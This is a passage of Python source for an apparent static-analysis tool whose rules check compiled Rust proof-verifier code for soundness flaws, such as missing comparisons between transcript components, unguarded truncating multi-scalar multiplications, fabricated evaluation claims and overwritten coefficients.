"""
from ..engine import short, where_of
from ..flow import OUTCOME

CMP_CALLS = ("eq", "ne", "lt", "le", "gt", "ge", "cmp", "partial_cmp")
CMP_BINOPS = ("Eq", "Ne", "Lt", "Le", "Gt", "Ge")


def comparison_sites(g, equality_only=False):
    """(body, block, [lhs nodes], [rhs nodes], result node, span)."""
    f = g.facts
    binops = EQUALITY_BINOPS if equality_only else CMP_BINOPS
    calls = EQUALITY_CALLS if equality_only else CMP_CALLS
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        reach = b.reachable()
        for i, blk in enumerate(b.blocks):
            if i not in reach or blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "binop" and rv.get("op") in binops:
                    ops = rv["ops"]
                    l = [(bid, ops[0]["pl"]["l"])] if ops[0]["k"] in ("copy", "move") else []
                    r = [(bid, ops[1]["pl"]["l"])] if ops[1]["k"] in ("copy", "move") else []
                    out.append((bid, i, l, r, (bid, st["dst"]["l"]), "%s:%s" % (b.file(), st.get("line"))))
            t = blk["term"]
            if t["k"] == "call" and len(t["args"]) == 2:
                c = t.get("callee") or ""
                if c.rsplit("::", 1)[-1] in calls and ("cmp::" in c or "PartialEq" in c or "PartialOrd" in c):
                    a0, a1 = t["args"]
                    l = [(bid, a0["pl"]["l"])] if a0["k"] in ("copy", "move") else []
                    r = [(bid, a1["pl"]["l"])] if a1["k"] in ("copy", "move") else []
                    out.append((bid, i, l, r, (bid, t["dst"]["l"]), t["span"]))
    return out


def reach_nodes(ctx, g, starts, cut):
    # data dependence only: a comparison in a later loop iteration is control dependent on every earlier
    # early return, which says nothing about what is compared with what
    from ..flow import DATA, ALIAS
    par = g.reach(starts, cut=cut, kinds=(DATA, ALIAS))
    return {st[0] for st in par}


EQUALITY_CALLS = ("eq", "ne", "cmp", "partial_cmp")
EQUALITY_BINOPS = ("Eq", "Ne")


def check(ctx, anchor, a_starts, b_starts, cut_sponge=True, equality_only=False):
    """returns (ok, detail, where). With equality_only, only comparisons that can establish equality count
    (==, !=, three-way cmp); a lone `<` cannot tell an exact match from "the next larger entry"."""
    g = ctx.graph(anchor)
    cut = ctx.sponge_cut(g) if cut_sponge else None
    ra = reach_nodes(ctx, g, a_starts, cut)
    rb = reach_nodes(ctx, g, b_starts, cut)
    if len(ra) <= len(a_starts) or len(rb) <= len(b_starts):
        return False, "one of the two components is never read", anchor.body.span
    sites = comparison_sites(g, equality_only)
    best = None
    for (bid, blk, l, r, res, span) in sites:
        la, lb = any(n in ra for n in l), any(n in rb for n in l)
        rra, rrb = any(n in ra for n in r), any(n in rb for n in r)
        if (la and rrb) or (lb and rra):
            g.reach([res], cut=cut, want=OUTCOME)
            if g.last_goal is not None:
                return True, "compared with each other at %s" % span, span
            best = span
    if best:
        return False, "compared at %s but the result of that comparison cannot reach the outcome" % best, best
    return False, "no comparison has one operand derived from each of them (%d comparison sites examined)" % len(sites), anchor.body.span
