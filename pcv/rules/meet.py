"""R1m MEET: two components of the transcript must be compared with each other.

For a pair of sources (A, B) there must be a comparison in the verifier's scope - a call of `PartialEq::eq/ne`
(or a derived / foreign equality), or an integer comparison - one operand of which is derived from A and the other
from B (transcript cut), and whose result can reach the outcome. Liveness of A and of B separately does not show
that the verifier checks them *against each other*: the linear-code verifier keeps every opened column live through
Merkle authentication even if the column is never compared with the encoding of the opening vector.
"""
from ..engine import short, where_of
from ..flow import OUTCOME

CMP_CALLS = ("eq", "ne", "lt", "le", "gt", "ge", "cmp", "partial_cmp")
CMP_BINOPS = ("Eq", "Ne", "Lt", "Le", "Gt", "Ge")


def comparison_sites(g, equality_only=False):
    """(body, block, [lhs nodes], [rhs nodes], result node, span)."""
    f = g.facts
    binops = EQUALITY_BINOPS if equality_only else CMP_BINOPS
    calls = EQUALITY_CALLS if equality_only else CMP_CALLS
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        reach = b.reachable()
        for i, blk in enumerate(b.blocks):
            if i not in reach or blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "binop" and rv.get("op") in binops:
                    ops = rv["ops"]
                    l = [(bid, ops[0]["pl"]["l"])] if ops[0]["k"] in ("copy", "move") else []
                    r = [(bid, ops[1]["pl"]["l"])] if ops[1]["k"] in ("copy", "move") else []
                    out.append((bid, i, l, r, (bid, st["dst"]["l"]), "%s:%s" % (b.file(), st.get("line"))))
            t = blk["term"]
            if t["k"] == "call" and len(t["args"]) == 2:
                c = t.get("callee") or ""
                if c.rsplit("::", 1)[-1] in calls and ("cmp::" in c or "PartialEq" in c or "PartialOrd" in c):
                    a0, a1 = t["args"]
                    l = [(bid, a0["pl"]["l"])] if a0["k"] in ("copy", "move") else []
                    r = [(bid, a1["pl"]["l"])] if a1["k"] in ("copy", "move") else []
                    out.append((bid, i, l, r, (bid, t["dst"]["l"]), t["span"]))
    return out


def reach_nodes(ctx, g, starts, cut):
    # data dependence only: a comparison in a later loop iteration is control dependent on every earlier
    # early return, which says nothing about what is compared with what
    from ..flow import DATA, ALIAS
    par = g.reach(starts, cut=cut, kinds=(DATA, ALIAS))
    return {st[0] for st in par}


EQUALITY_CALLS = ("eq", "ne", "cmp", "partial_cmp")
EQUALITY_BINOPS = ("Eq", "Ne")


def check(ctx, anchor, a_starts, b_starts, cut_sponge=True, equality_only=False):
    """returns (ok, detail, where). With equality_only, only comparisons that can establish equality count
    (==, !=, three-way cmp); a lone `<` cannot tell an exact match from "the next larger entry"."""
    g = ctx.graph(anchor)
    cut = ctx.sponge_cut(g) if cut_sponge else None
    ra = reach_nodes(ctx, g, a_starts, cut)
    rb = reach_nodes(ctx, g, b_starts, cut)
    if len(ra) <= len(a_starts) or len(rb) <= len(b_starts):
        return False, "one of the two components is never read", anchor.body.span
    sites = comparison_sites(g, equality_only)
    best = None
    for (bid, blk, l, r, res, span) in sites:
        la, lb = any(n in ra for n in l), any(n in rb for n in l)
        rra, rrb = any(n in ra for n in r), any(n in rb for n in r)
        if (la and rrb) or (lb and rra):
            g.reach([res], cut=cut, want=OUTCOME)
            if g.last_goal is not None:
                return True, "compared with each other at %s" % span, span
            best = span
    if best:
        return False, "compared at %s but the result of that comparison cannot reach the outcome" % best, best
    return False, "no comparison has one operand derived from each of them (%d comparison sites examined)" % len(sites), anchor.body.span


# ---------------------------------------------------------------------------------------------------------
# R1mp: the two components meet on EVERY non-refusing path, not only on some
def _refusing_blocks(b):
    out = set(b.diverging())
    for i, blk in enumerate(b.blocks):
        t = blk["term"]
        if t["k"] == "call" and (t.get("callee") or "").endswith("from_residual"):
            out.add(i)
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "agg" and rv.get("adt") == "std::result::Result" and rv.get("variant") == "Err":
                out.add(i)
            # a constant negative verdict stored in the return place: `return false`, `return Ok(false)`, `None`
            if st["dst"]["l"] == 0 and not st["dst"]["p"]:
                ops = rv.get("ops", [])
                if rv.get("k") == "agg" and rv.get("variant") == "Ok" and ops and ops[0].get("k") == "const" \
                        and ops[0].get("ty") == "bool" and ops[0].get("val") == 0:
                    out.add(i)
                elif rv.get("k") == "use" and ops and ops[0].get("k") == "const" and ops[0].get("ty") == "bool" and ops[0].get("val") == 0:
                    out.add(i)
                elif rv.get("k") == "agg" and rv.get("adt") == "std::option::Option" and rv.get("variant") == "None":
                    out.add(i)
    return out


def _natural_loops(b):
    """[(header, body set)] for every back edge x -> h with h dominating x."""
    succ, pred = b.succ(), b.pred()
    out = []
    for x in range(len(b.blocks)):
        for h in succ[x]:
            if not b.dominates(h, x):
                continue
            body = {h, x}
            st = [x]
            while st:
                y = st.pop()
                if y == h:
                    continue
                for z in pred[y]:
                    if z not in body:
                        body.add(z)
                        st.append(z)
            out.append((h, body))
    # a `continue` gives a loop a second back edge: all back edges to one header are one loop
    merged = {}
    for h, body in out:
        merged.setdefault(h, set()).update(body)
    return list(merged.items())


def _writes_return(b, x):
    blk = b.blocks[x]
    return any(st["dst"]["l"] == 0 for st in blk["stmts"]) or (blk["term"]["k"] == "call" and blk["term"]["dst"]["l"] == 0)


def _return_const_sig(b, x):
    """signature of a constant stored whole into the return place in block x: nested unit variants / literals only."""
    def sig_of(rv, depth=0):
        if depth > 3:
            return None
        if rv.get("k") == "agg":
            parts = []
            for o in rv.get("ops", []):
                if o.get("k") == "const":
                    parts.append(("c", o.get("ty"), o.get("val")))
                elif o.get("k") in ("copy", "move") and not o["pl"]["p"]:
                    # an operand built in the same block from constants (`Ok(Verdict::Rejected)`)
                    inner = [st["rv"] for st in b.blocks[x]["stmts"] if st["dst"]["l"] == o["pl"]["l"] and not st["dst"]["p"]]
                    sg = sig_of(inner[-1], depth + 1) if inner else None
                    if sg is None:
                        return None
                    parts.append(sg)
                else:
                    return None
            return ("agg", rv.get("adt"), rv.get("variant"), tuple(parts))
        if rv.get("k") == "use" and rv.get("ops") and rv["ops"][0].get("k") == "const":
            return ("c", rv["ops"][0].get("ty"), rv["ops"][0].get("val"))
        return None
    out = None
    for st in b.blocks[x]["stmts"]:
        if st["dst"]["l"] == 0 and not st["dst"]["p"]:
            out = sig_of(st["rv"])
    return out


FILLS = ("push", "push_back", "push_front", "insert", "extend", "extend_from_slice")


def _bypass(b, sites, refusing):
    """a way through one iteration of the outermost loop around `sites` (or through the body) that passes none of
    them, as text; None if there is none."""
    succ = b.succ()
    loops = _natural_loops(b)
    outer = [(h, body) for (h, body) in loops if sites & body]
    passing = set(sites)
    if outer:
        h, region = max(outer, key=lambda x: len(x[1]))
        for (h2, body2) in loops:
            if h2 != h and body2 < region and body2 & sites:
                passing.add(h2)
        seen, st = set(), [y for y in succ[h] if y in region]
        while st:
            x = st.pop()
            if x in seen or x in passing or x in refusing or b.blocks[x]["cleanup"]:
                continue
            seen.add(x)
            for y in succ[x]:
                if y == h:
                    return "one iteration of the loop at %s can complete without it" % (b.blocks[h]["term"].get("span") or b.span)
                if y in region:
                    st.append(y)
        return None
    for (h2, body2) in loops:
        if body2 & sites:
            passing.add(h2)
    seen, st = set(), [0]
    while st:
        x = st.pop()
        if x in seen or x in passing or x in refusing or b.blocks[x]["cleanup"]:
            continue
        seen.add(x)
        if b.blocks[x]["term"]["k"] == "return":
            return "%s can return normally without it" % b.id
        st.extend(succ[x])
    return None


def check_every_path(ctx, anchor, a_starts, b_starts, cut_sponge=True):
    """(ok, detail, where): in the body that holds the comparison (or the calls of the helper / closure holding it),
    every non-refusing way through one iteration of the outermost loop around those sites (or through the body)
    passes one of them. Inner loops containing a site count as passing it."""
    from ..flow import DATA, ALIAS
    g = ctx.graph(anchor)
    f = ctx.facts
    cut = ctx.sponge_cut(g) if cut_sponge else None
    pa = g.reach(a_starts, cut=cut, kinds=(DATA, ALIAS))
    pb = g.reach(b_starts, cut=cut, kinds=(DATA, ALIAS))

    def frames(par):
        m = {}
        for (n, ty, stack) in par:
            m.setdefault(n, set()).add(stack[-1][0] if stack else None)
        return m
    fa, fb = frames(pa), frames(pb)
    callers = {}

    def sites_of(fr, nodes):
        """call sites through which the operand reached its body; a value picked up inside a helper without a
        calling context (a field read there) may have come through any call of that helper."""
        out = set()
        for n in nodes:
            for s in fr.get(n, ()):
                if s is None and n[0] != anchor.body.id and f.bodies[n[0]].kind != "Closure":
                    if n[0] not in callers:
                        callers[n[0]] = {(cb, ci) for cb in g.scope for ci, t in f.bodies[cb].calls()
                                         if n[0] in f.call_targets(t, g.ctx_adt)}
                    out |= callers[n[0]] or {None}
                else:
                    out.add(s)
        return out
    meet_blocks = {}      # body -> blocks that perform (or call something that performs) the comparison
    for (bid, blk, l, r, res, span) in comparison_sites(g):
        for (x, y) in ((l, r), (r, l)):
            sa = sites_of(fa, x)
            sb = sites_of(fb, y)
            for site in sa & sb:
                if site is None or not (isinstance(site, tuple) and site[0] in f.bodies):
                    meet_blocks.setdefault(bid, set()).add(blk)
                else:
                    meet_blocks.setdefault(site[0], set()).add(site[1])
    if not meet_blocks:
        return False, "no comparison has one operand derived from each of them", anchor.body.span
    # the compared values may travel through a container that is filled first (`tests.push((b, w))`) and walked
    # afterwards: then the comparison loop runs as often as the container has entries, and the *fill* has to lie on
    # every non-refusing path as well - a fill under a condition leaves the loop with nothing to compare
    fills = {}
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "").rsplit("::", 1)[-1] in FILLS and len(t["args"]) >= 2 and not b.blocks[i]["cleanup"] \
                    and any(a["k"] in ("copy", "move") and ((bid, a["pl"]["l"]) in fa or (bid, a["pl"]["l"]) in fb) for a in t["args"][1:]):
                fills.setdefault(bid, set()).add(i)
    if fills:
        fsites = {(bid, i) for bid, blks in fills.items() for i in blks}

        def cut2(n, e):
            return (cut is not None and cut(n, e)) or (e.site in fsites and e.kind == DATA and e.op != "callres" and e.dst != OUTCOME
                                                       and not (isinstance(e.dst, tuple) and e.dst and e.dst[0] == "CALLRES"))
        fa2 = frames(g.reach(a_starts, cut=cut2, kinds=(DATA, ALIAS)))
        fb2 = frames(g.reach(b_starts, cut=cut2, kinds=(DATA, ALIAS)))
        direct = False
        for (bid, blk, l, r, res, span) in comparison_sites(g):
            for (x, y) in ((l, r), (r, l)):
                if any(n in fa2 for n in x) and any(n in fb2 for n in y):
                    direct = True
        if not direct:
            for bid, blks in sorted(fills.items()):
                b = f.bodies[bid]
                by = _bypass(b, blks, _refusing_blocks(b))
                if by is not None:
                    sp = b.blocks[sorted(blks)[0]]["term"].get("span") or b.span
                    return False, ("they are compared only through a container filled at %s, and %s: on those paths the "
                                   "comparison loop has nothing to compare" % (sp, by)), sp
    for bid, sites in sorted(meet_blocks.items()):
        b = f.bodies[bid]
        succ = b.succ()
        refusing = _refusing_blocks(b)
        loops = _natural_loops(b)
        outer = [(h, body) for (h, body) in loops if sites & body]
        passing = set(sites)
        if outer:
            h, region = max(outer, key=lambda x: len(x[1]))
            for (h2, body2) in loops:
                if h2 != h and body2 < region and body2 & sites:
                    passing.add(h2)
            seen = set()
            st = [y for y in succ[h] if y in region]
            while st:
                x = st.pop()
                if x in seen or x in passing or x in refusing or b.blocks[x]["cleanup"]:
                    continue
                seen.add(x)
                for y in succ[x]:
                    if y == h:
                        sp = b.blocks[x]["term"].get("span") or b.span
                        return False, ("one iteration of the loop at %s can complete without comparing them (back edge from %s)"
                                       % (b.blocks[h]["term"].get("span") or b.span, sp)), sp
                    if y in region:
                        st.append(y)
        else:
            for (h2, body2) in loops:
                if body2 & sites:
                    passing.add(h2)
            # a path that skips the comparison may end in *another* constant verdict than the paths that pass it (a
            # custom `Verdict::PathRejected` next to `Verdict::Accepted`): that is an exit of its own, which the caller
            # has to tell apart. Ending in the same result as the passing paths - or in a computed one - is a bypass.
            pass_sigs = set()
            seen2, st2 = set(), list(passing)
            while st2:
                x = st2.pop()
                if x in seen2 or b.blocks[x]["cleanup"]:
                    continue
                seen2.add(x)
                sg = _return_const_sig(b, x)
                if sg is not None:
                    pass_sigs.add(sg)
                st2.extend(succ[x])
            seen = set()
            st = [(0, None)]
            while st:
                x, sig = st.pop()
                if (x, sig) in seen or x in passing or x in refusing or b.blocks[x]["cleanup"]:
                    continue
                seen.add((x, sig))
                sg = _return_const_sig(b, x)
                if sg is not None:
                    sig = sg
                elif _writes_return(b, x):
                    sig = "computed"
                if b.blocks[x]["term"]["k"] == "return":
                    if sig is not None and sig != "computed" and sig not in pass_sigs:
                        continue
                    return False, "%s can return normally without comparing them" % bid, b.span
                st.extend((y, sig) for y in succ[x])
    return True, "compared on every non-refusing path (%d site(s))" % sum(len(v) for v in meet_blocks.values()), None
