"""R4m TRUNCATING MSM IN A WRAPPER: `msm_bigint` / `msm_unchecked` silently stop at the shorter operand. A function that
hands two of its own parameters (or element-wise images of them) to such a call is a wrapper the callers trust with the
size test: the call must be control-dependent on a test over at least one of the two (an `assert_eq!` of the two lengths, a refusal
of a length that differs from the pinned one) - with no such test at all nothing bounds the pairing. The checked `msm` (which returns an error on unequal lengths) needs no guard. Calls whose operands
are not parameter-derived are not judged (their bounds are the business of the admission rules R5 / R6a)."""
from ..flow import Graph, DATA, ALIAS
from . import lenguard as LG
from .refusal import _nesting_conditions

TRUNCATING = ("msm_bigint", "msm_unchecked")
ELEMENTWISE = set(LG.CONTAINER_PRESERVING) | {"map", "collect", "par_iter", "into_par_iter", "with_min_len", "to_owned"}


def _origin_param(body, l, defs, calls_by_dst, depth=0):
    if depth > 12:
        return None
    if 1 <= l <= body.arg_count:
        return l
    d = defs.get(l)
    if d is not None and len(d) == 1:
        rv = d[0]
        if rv.get("k") in ("ref", "addr"):
            return _origin_param(body, rv["pl"]["l"], defs, calls_by_dst, depth + 1)
        if rv.get("k") in ("use", "cast") and rv.get("ops") and rv["ops"][0].get("k") in ("copy", "move"):
            return _origin_param(body, rv["ops"][0]["pl"]["l"], defs, calls_by_dst, depth + 1)
        return None
    t = calls_by_dst.get(l)
    if t is not None and (t.get("callee") or "").rsplit("::", 1)[-1] in ELEMENTWISE and t["args"] and \
            t["args"][0].get("k") in ("copy", "move"):
        return _origin_param(body, t["args"][0]["pl"]["l"], defs, calls_by_dst, depth + 1)
    return None


def run(rep, ctx, prefixes, rule="R4m"):
    f = ctx.facts
    n = 0
    for bid in sorted(f.bodies):
        if not bid.startswith(tuple(prefixes)):
            continue
        body = f.bodies[bid]
        sites = [(i, t) for i, t in body.calls() if (t.get("callee") or "").rsplit("::", 1)[-1] in TRUNCATING
                 and not body.blocks[i]["cleanup"]]
        if not sites:
            continue
        defs, by_dst = {}, {}
        for blk in body.blocks:
            for st in blk["stmts"]:
                if not st["dst"].get("p"):
                    defs.setdefault(st["dst"]["l"], []).append(st["rv"])
        for i, t in body.calls():
            if t.get("dst") and not t["dst"].get("p"):
                by_dst[t["dst"]["l"]] = t
        for i, t in sites:
            ops = [a for a in t["args"] if a.get("k") in ("copy", "move")]
            if len(ops) < 2:
                continue
            pa = _origin_param(body, ops[0]["pl"]["l"], defs, by_dst)
            pb = _origin_param(body, ops[1]["pl"]["l"], defs, by_dst)
            if pa is None or pb is None or pa == pb:
                continue
            n += 1
            g = Graph(f, [bid], [bid], None)
            ra = {s[0] for s in g.reach([(bid, pa)], kinds=(DATA, ALIAS), typed=False)}
            rb = {s[0] for s in g.reach([(bid, pb)], kinds=(DATA, ALIAS), typed=False)}
            ok = False
            for c in _nesting_conditions(body, i):
                tt = body.blocks[c]["term"]
                if tt["k"] in ("switch", "assert") and tt["op"]["k"] in ("copy", "move"):
                    node = (bid, tt["op"]["pl"]["l"])
                    if node in ra or node in rb:
                        ok = True      # one against the other (assert_eq of the lengths), or one against a pinned length
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            rep.add(rule, "%s:%s-guarded" % (body.name, nm), ok,
                    "`%s` at %s pairs parameters `%s` and `%s` under a test of their shape" % (
                        nm, t["span"], body.locals[pa].get("name"), body.locals[pb].get("name")) if ok else
                    "`%s` at %s pairs parameters `%s` and `%s` of `%s` with no test of either length: the longer operand "
                    "is silently cut off, so a request larger than the key is answered instead of refused" % (
                        nm, t["span"], body.locals[pa].get("name"), body.locals[pb].get("name"), body.name), t["span"])
    rep.count("R4m wrapper sites", n)
    return n
