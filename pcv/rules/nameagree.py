"""R9n NAME-AGREEMENT: a key field that is copied from a like-named field of the parameters is copied from *that* field.

For every struct literal of a key / parameter type (`..Key`, `..Params`, `Powers`), each field `f` whose operand is
an exact copy (moves, references, `clone` / `into` / `as_ref` carriers; no arithmetic) of field `g` of another crate
struct S: if S also has a field named `f`, then g = f. On this tree the pattern "field f := S.f" occurs 100+ times in
key literals and the deviant form (f := S.g although S.f exists) never; a deviant copy means the trimmed key is not
the faithful sub-key of the parameters the property demands (`beta_h: pp.h`, `gamma_g: pp.g`). Struct fields that
were renamed on one side have no like-named counterpart and are not judged.
"""
from ..engine import short

CARRY = ("clone", "into", "as_ref", "deref", "borrow", "copied", "cloned", "to_vec", "to_owned", "from", "unwrap", "expect")
KEY_SUFFIXES = ("Key", "Params", "Powers", "KeyStream")


def _field_of_place(pl):
    named = [e for e in pl["p"] if isinstance(e, dict) and "n" in e]
    return named[-1] if named else None


def origin_field(b, l, depth=0, seen=None):
    """(adt, field) the local is an exact copy of, following single definitions inside the body."""
    seen = seen or set()
    if l in seen or depth > 8:
        return None
    seen.add(l)
    defs = []
    for blk in b.blocks:
        for st in blk["stmts"]:
            if st["dst"]["l"] == l and not st["dst"]["p"]:
                defs.append(("s", st["rv"]))
        t = blk["term"]
        if t["k"] == "call" and t["dst"]["l"] == l and not t["dst"]["p"]:
            defs.append(("c", t))
    if len(defs) != 1:
        return None
    k, d = defs[0]
    if k == "s":
        if d.get("k") not in ("use", "ref"):
            return None
        pl = d["pl"] if d.get("k") == "ref" else (d["ops"][0].get("pl") if d["ops"][0]["k"] in ("copy", "move") else None)
    else:
        nm = (d.get("callee") or "").rsplit("::", 1)[-1]
        if nm not in CARRY or not d["args"] or d["args"][0]["k"] not in ("copy", "move"):
            return None
        pl = d["args"][0]["pl"]
    if pl is None:
        return None
    fo = _field_of_place(pl)
    if fo:
        return (fo.get("adt"), fo["n"])
    return origin_field(b, pl["l"], depth + 1, seen)


def run(rep, ctx, rule="R9n"):
    f = ctx.facts
    fields = {k: {fl["name"] for v in a["variants"] for fl in v["fields"]} for k, a in f.adts.items()}
    n_same = n_sites = 0
    for bid in sorted(f.bodies):
        b = f.bodies[bid]
        if not b.span:
            continue
        k = 0
        for blk in b.blocks:
            if blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                rv = st["rv"]
                adt = rv.get("adt") or ""
                if rv.get("k") != "agg" or adt not in fields or not rv.get("fields") or not adt.endswith(KEY_SUFFIXES):
                    continue
                deviant, same = [], 0
                for nm, op in zip(rv["fields"], rv["ops"]):
                    if op["k"] not in ("copy", "move"):
                        continue
                    if op["pl"]["p"]:
                        fo = _field_of_place(op["pl"])
                        o = (fo.get("adt"), fo["n"]) if fo else None
                    else:
                        o = origin_field(b, op["pl"]["l"])
                    if not o or o[0] not in fields:
                        continue
                    if o[1] == nm:
                        same += 1
                    elif nm in fields[o[0]]:
                        deviant.append((nm, o))
                if not same and not deviant:
                    continue
                n_sites += 1
                n_same += same
                where = "%s:%s" % (b.file(), st.get("line"))
                rep.add(rule, "%s-literal@%s#%d:name-agreement" % (adt.rsplit("::", 1)[-1], short(bid), k), not deviant,
                        ("%d field(s) copied from the like-named field of the source struct" % same) if not deviant else
                        ("field `%s` is copied from `%s.%s` although `%s` has a field `%s`: the key is not the sub-key of "
                         "the parameters it is derived from" % (deviant[0][0], deviant[0][1][0].rsplit("::", 1)[-1], deviant[0][1][1],
                                                                deviant[0][1][0].rsplit("::", 1)[-1], deviant[0][0])), where)
                k += 1
    return n_sites, n_same
