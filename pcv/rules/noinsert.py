"""R5i CLAIMS-NOT-EXTENDED: a verifier never adds an entry to (a copy of) the map of claimed evaluations it was given.

A missing evaluation has to end in `Error::MissingEvaluation`. `entry(..).or_default()` / `insert` on the caller's
claims (or on the verifier's working copy of them) fabricates a claim the caller never made, after which the lookup
that would have refused succeeds."""
from ..engine import short
from . import lenguard as LG

ADDERS = ("insert", "entry", "or_default", "or_insert", "or_insert_with", "or_insert_with_key", "extend", "append",
          "try_insert", "push", "push_back")
MAPS = ("BTreeMap<", "HashMap<", "Evaluations<")


def run(rep, ctx, anchor, rule="R5i"):
    idx = anchor.roles.get("values")
    if idx is None:
        return 0
    ty = anchor.body.locals[idx]["ty"]
    if not any(m in ty for m in MAPS):
        return 0
    g = ctx.graph(anchor)
    f = ctx.facts
    V = LG.views(g, {(anchor.body.id, idx)})
    bad = None
    n_calls = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            a0 = (bid, t["args"][0]["pl"]["l"])
            if a0 not in V:
                continue
            n_calls += 1
            if nm in ADDERS and any(m in (b.locals[a0[1]]["ty"] or "") for m in MAPS):
                bad = (nm, t["span"])
                break
        if bad:
            break
    rep.add(rule, "%s:claims-not-extended" % anchor.key, bad is None,
            ("none of the %d calls on the claimed-evaluations map (or a copy of it) can add an entry" % n_calls) if bad is None else
            ("`%s` at %s can add an entry to the claimed-evaluations map: an evaluation the caller did not supply is "
             "fabricated instead of refused with MissingEvaluation" % bad), bad[1] if bad else anchor.body.span)
    return 1
