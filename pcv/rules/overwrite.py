"""R5o LOSSLESS-ACCUMULATION: what a combination loop derives from a term's coefficient is never stored with
overwrite semantics.

`map.insert(key, value)` replaces an earlier entry with the same key. When `value` carries the coefficient of an
equation term and the old entry (the `Option` returned by `insert`) is thrown away, two terms that map to one key
(the same polynomial label occurring twice, as `lc += &other` produces) collapse into the last one: the verifier then
checks a different equation from the one that was stated. Appending (`push`), or merging through the entry API /
the returned old value, keeps every term."""
from ..engine import short
from ..flow import DATA, ALIAS
from .. import tables as T

MAPS = ("BTreeMap<", "HashMap<")


def run(rep, ctx, anchor, source_field, rule="R5o"):
    g = ctx.graph(anchor)
    f = ctx.facts
    if source_field not in g.fwd:
        return 0
    starts = [("STATE", source_field, t) for t in T.SCALARS]
    reached = {st[0] for st in g.reach(starts, cut=ctx.sponge_cut(g), kinds=(DATA, ALIAS))}
    bad = None
    first = False
    n = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            # (`or_insert_with(|| f(key))` is the memoisation idiom - the value is a function of the key - and is not judged)
            if nm in ("or_insert",) and "Entry" in (t.get("callee") or "") and len(t["args"]) == 2 \
                    and t["args"][1]["k"] in ("copy", "move"):
                # the mirror image: `entry(key).or_insert(value)` keeps the *first* value stored under a key. Fine for a
                # neutral start value that is then accumulated into; lossy when the value itself carries the coefficient
                n += 1
                v = t["args"][1]
                vn = (bid, v["pl"]["l"])
                hit = vn in reached
                if not hit and nm == "or_insert_with":
                    # the closure's captured operands
                    for blk in b.blocks:
                        for st in blk["stmts"]:
                            if st["dst"]["l"] == v["pl"]["l"] and st["rv"].get("k") == "agg" and st["rv"].get("closure"):
                                hit = hit or any(o["k"] in ("copy", "move") and (bid, o["pl"]["l"]) in reached for o in st["rv"]["ops"])
                if hit:
                    bad = t["span"]
                    first = True
                continue
            if nm != "insert" or len(t["args"]) != 3 or t["args"][0]["k"] not in ("copy", "move"):
                continue
            if not any(m in (b.locals[t["args"][0]["pl"]["l"]]["ty"] or "") for m in MAPS):
                continue
            n += 1
            v = t["args"][2]
            if v["k"] not in ("copy", "move") or (bid, v["pl"]["l"]) not in reached:
                continue
            # is the returned old value looked at?
            d = (bid, t["dst"]["l"])
            used = any(e.dst != d for e in g.fwd.get(d, ()) if e.kind == DATA)
            if not used:
                bad = t["span"]
    rep.add(rule, "%s:coefficients-not-overwritten" % anchor.key, bad is None,
            "no map insert in scope (%d examined) stores a coefficient-derived value while discarding the entry it replaces" % n
            if bad is None else
            ("the `or_insert` at %s offers a value derived from a term's coefficient to a slot that keeps what it already "
             "holds: of two terms with the same key only the first counts" % bad) if first else
            ("the insert at %s stores a value derived from a term's coefficient and discards the entry it replaces: two "
             "terms with the same key collapse into the last one" % bad), bad or anchor.body.span)
    return 1
