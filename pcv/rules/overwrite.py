"""R5o LOSSLESS-ACCUMULATION: what a combination loop derives from a term's coefficient is never stored with
overwrite semantics.

`map.insert(key, value)` replaces an earlier entry with the same key. When `value` carries the coefficient of an
equation term and the old entry (the `Option` returned by `insert`) is thrown away, two terms that map to one key
(the same polynomial label occurring twice, as `lc += &other` produces) collapse into the last one: the verifier then
checks a different equation from the one that was stated. Appending (`push`), or merging through the entry API /
the returned old value, keeps every term."""
from ..engine import short
from ..flow import DATA, ALIAS
from .. import tables as T

MAPS = ("BTreeMap<", "HashMap<")


def run(rep, ctx, anchor, source_field, rule="R5o"):
    g = ctx.graph(anchor)
    f = ctx.facts
    if source_field not in g.fwd:
        return 0
    starts = [("STATE", source_field, t) for t in T.SCALARS]
    reached = {st[0] for st in g.reach(starts, cut=ctx.sponge_cut(g), kinds=(DATA, ALIAS))}
    bad = None
    n = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm != "insert" or len(t["args"]) != 3 or t["args"][0]["k"] not in ("copy", "move"):
                continue
            if not any(m in (b.locals[t["args"][0]["pl"]["l"]]["ty"] or "") for m in MAPS):
                continue
            n += 1
            v = t["args"][2]
            if v["k"] not in ("copy", "move") or (bid, v["pl"]["l"]) not in reached:
                continue
            # is the returned old value looked at?
            d = (bid, t["dst"]["l"])
            used = any(e.dst != d for e in g.fwd.get(d, ()) if e.kind == DATA)
            if not used:
                bad = t["span"]
    rep.add(rule, "%s:coefficients-not-overwritten" % anchor.key, bad is None,
            "no map insert in scope (%d examined) stores a coefficient-derived value while discarding the entry it replaces" % n
            if bad is None else
            "the insert at %s stores a value derived from a term's coefficient and discards the entry it replaces: two "
            "terms with the same key collapse into the last one" % bad, bad or anchor.body.span)
    return 1
