"""R1all CHALLENGE-VARIABLE: a variable that holds a transcript challenge on some path must hold one on every path
to its uses.

For every scalar-field local of a verifier body that has at least one definition derived from a sponge squeeze and
at least one definition that is not (a constant, say), no definition of the second kind may reach a use of the
variable. `let mut c = F::one(); for .. { use(c); c = squeeze(); }` combines the first element with the constant 1:
a proof for a single element no longer depends on the transcript, although every squeeze result is still used."""
from .. import tables as T
from ..engine import short, where_of
from ..flow import DATA, ALIAS, strip_refs

SQUEEZES = ("squeeze_field_elements_with_sizes", "squeeze_field_elements", "squeeze_bytes", "squeeze_bits",
